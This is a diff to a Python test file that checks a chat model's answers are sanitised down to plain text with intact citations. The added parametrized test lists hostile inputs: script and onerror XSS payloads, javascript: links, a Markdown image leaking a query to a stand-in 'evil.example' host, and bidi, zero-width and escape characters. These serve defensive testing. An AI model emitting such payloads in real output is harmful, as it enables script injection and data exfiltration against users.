@@ -1,9 +1,12 @@
 """Answers in a chat model's words: what a scripted model writes, and what of it is shown."""
 
 import json
+import re
 from collections.abc import Callable, Iterator
 from itertools import count
 
+import pytest
+from markdown_it import MarkdownIt
 from scripted_chat import Script, keys_in, writes
 from small_documents import Small
 
@@ -143,6 +146,45 @@ def test_markup_that_a_model_writes_is_shown_as_it_is(with_script: Opened) -> No
     )
     assert reply.text == SHOWN
     assert reply.dropped == 2
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>{true}",
+        "<img src=x onerror=alert(1)>{true}",
+        "[{true}](javascript:alert(1))",
+        "{true} ![x](http://evil.example/leak?q=1)",
+        "[{true}][site]\n\n[site]: http://evil.example",
+        "{true} <http://evil.example>",
+        "{true} (www.evil.example)",
+        "{true} [1](http://evil.example)",
+        "{true} [1][2][999]",
+        "{true} [^1]",
+        "# {true}",
+        "| {true} |\n|---|",
+        "```html\n{true}\n```",
+        "~~{true}~~",
+        "<!-- {true} -->",
+        "&lt;script&gt; {true}",
+        "{true}\u202e",
+        "\u200b{true}",
+        "\x1b[31m{true}",
+        "{true}\x00",
+        "$\\href{{http://evil.example}}{{x}}$ {true}",
+    ],
+)
+def test_whatever_a_model_writes_ends_as_plain_text(with_script: Opened, hostile: str) -> None:
+    """Rendered as Markdown with HTML and links let through, what is shown holds paragraphs and bold, and no address."""
+    reply = with_script(writes(f"{hostile.format(true=TRUE)} [{{0}}].")).answer(QUESTION)
+    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(reply.text)
+    assert set(re.findall(r"<(/?\w+|!)", rendered)) <= {"p", "/p", "strong", "/strong"}
+    assert "evil.example" not in reply.text
+    assert not re.search(r"[\x00-\x08\x1b\u200b\u202e]", reply.text)
+    marks = re.findall(r"(?<!\\)\[(\d+)\]", reply.text)
+    assert marks
+    assert {int(mark) for mark in marks} == {citation.number for citation in reply.citations}
+    assert reply.citations[0].quote == "The harbour of Westmere was opened by Mayor Ada Quill on 12 June 1931."
 
 
 def test_thoughts_are_not_shown(with_script: Opened) -> None:
